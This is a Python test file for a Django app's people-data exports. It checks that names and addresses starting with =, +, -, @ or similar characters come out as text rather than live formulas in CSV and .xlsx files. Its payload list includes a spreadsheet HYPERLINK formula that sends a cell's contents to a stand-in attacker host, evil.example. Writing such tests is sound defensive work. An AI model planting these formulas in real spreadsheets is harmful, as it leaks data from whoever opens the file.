"""Formula injection (issue 9 item 4): a name or text beginning with = + - @ is exported as
text, in CSV and in .xlsx, through the one helper jiceng.lib.exports."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from jiceng.lib import exports
from jiceng.people import services
from jiceng.testing import client_for

EVIL = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "+1+2",
    "-2+3",
    "@SUM(1+1)",
    "＝1+1",
    "\t=1+1",
]


@pytest.mark.parametrize(
    ("value", "csv_value"),
    [
        ("=1+1", "'=1+1"),
        ("+86 139", "'+86 139"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("＝1", "'＝1"),
        ("\r=1", "'\r=1"),
        ("王=1", "王=1"),
        ("", ""),
        (-1, -1),
        (3.5, 3.5),
        (None, None),
    ],
)
def test_csv_cells(value, csv_value):
    assert exports.csv_cell(value) == csv_value


@pytest.fixture
def evil(users, territory):
    h = services.create_household(
        users.district,
        {"number": "HY-X-001", "grid_code": territory.grid3a.code, "address": EVIL[0]},
    )
    for i, text in enumerate(EVIL):
        services.create_resident(
            users.district,
            {
                "household_id": h.id,
                "name": f"张{i}",
                "id_type": "passport",
                "id_number": f"E1234567{i}",
                "relation": "other",
                "address": text,
                "occupation": text,
            },
        )
    return h


@pytest.mark.django_db
def test_the_csv_export_writes_no_live_formula(users, territory, evil):
    c = client_for(users.grid_worker)
    for url in ("export.csv", "export.csv?reason=年度人口核查"):
        resp = c.get(f"/people/overview/{territory.grid3a.code}/{url}")
        text = b"".join(resp.streaming_content).decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text)))
        cells = [cell for row in rows for cell in row]
        assert not [cell for cell in cells if cell.startswith(exports.FORMULA_START)], url
        if "reason" in url:
            assert "'" + EVIL[0] in cells  # the exact text, marked as text


@pytest.mark.django_db
def test_the_xlsx_export_holds_texts_never_formulas(users, territory, evil):
    from jiceng.people.tests.test_export_jobs import xlsx_export

    c = client_for(users.grid_worker)
    data = xlsx_export(c, f"/people/overview/{territory.grid3a.code}/", reason="年度人口核查")
    ws = load_workbook(io.BytesIO(data)).active
    cells = [cell for row in ws.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert EVIL[0] in [cell.value for cell in cells]  # unchanged text, a string cell
